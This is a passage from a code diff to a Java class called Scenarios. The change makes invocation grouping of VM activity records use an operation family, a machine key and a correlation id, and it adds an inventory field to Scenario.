                     while (!taken.add(at)) {
                         at++;
@@ -467,15 +861,18 @@ public final class Scenarios {
                     : record.correlationId();
             records.set(i, record.withCaller(id, record.userEmail() == null ? null : caller.get(key)));
         }
-        return new Scenario(records, scenario.processes());
+        return new Scenario(records, scenario.processes(), scenario.inventory());
     }
 
+    /** Family, machine and correlation id: the records of one invocation. */
     private static List<String> invocationKey(ActivityRecord record) {
         return List.of(
-                ReferenceModel.hostKey(record.vm()), record.correlationId().toLowerCase(Locale.ROOT));
+                String.valueOf(Family.of(record.operation())),
+                ReferenceModel.machine(record).key(),
+                record.correlationId().toLowerCase(Locale.ROOT));
     }
 
     private static boolean isRunCommandEvent(ActivityRecord record) {
-        return record.operation().equalsIgnoreCase(Scenario.RUN_COMMAND) && record.result() != Result.FAILURE;
+        return Family.of(record.operation()) != null && record.result() != Result.FAILURE;
     }
 }
